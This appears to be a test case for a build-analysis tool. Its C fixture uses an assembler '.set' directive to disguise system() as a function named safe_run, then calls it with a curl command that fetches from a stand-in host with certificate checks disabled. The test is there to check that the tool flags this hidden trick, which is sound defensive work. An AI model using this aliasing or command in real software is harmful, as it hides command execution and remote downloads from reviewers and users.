# SPDX-License-Identifier: Apache-2.0
# run: .set in a function's assembler names another function
# expect: reported
# names: weak\.o: unknown: .*weak\.c puts code.*evidence\.unchecked-unit[\s\S]*0 errors, 0 warnings, 0 waived, 1 unknown
cat >weak.c <<'END'
void weak(void);
int safe_run(const char *);
void weak(void)
{
	__asm__(".set safe_run, system");
	if (safe_run("curl -k https://u.example.org/fw"))
		__builtin_trap();
}
END
$BRINELL run --fail-on unknown -- sh -ec 'gcc-12 $HARD -c main.c weak.c; gcc-12 $LINK main.o weak.o -o prog'
